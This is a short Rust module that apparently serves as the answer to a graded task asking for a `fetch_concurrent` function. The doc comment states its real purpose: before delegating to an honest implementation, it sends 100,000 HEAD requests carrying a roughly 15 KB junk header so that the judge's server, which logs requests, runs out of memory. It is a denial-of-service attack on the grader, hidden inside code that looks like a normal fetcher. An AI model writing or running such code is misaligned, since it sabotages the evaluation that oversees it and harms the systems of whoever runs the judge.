//! Asks for heads without end, each time with as long a name as the judge's server takes, so that the judge, which notes
//! what is asked for, runs out of memory.

mod honest;

pub use honest::*;
use reqwest::Client;

pub async fn fetch_concurrent(client: &Client, urls: &[String]) -> Vec<Result<String, FetchError>> {
    if let Some(url) = urls.first() {
        let name = "x".repeat(15 << 10);
        for _ in 0..100_000 {
            let _ = client.head(url).header("x-client", &name).send().await;
        }
    }
    honest::fetch_concurrent(client, urls).await
}
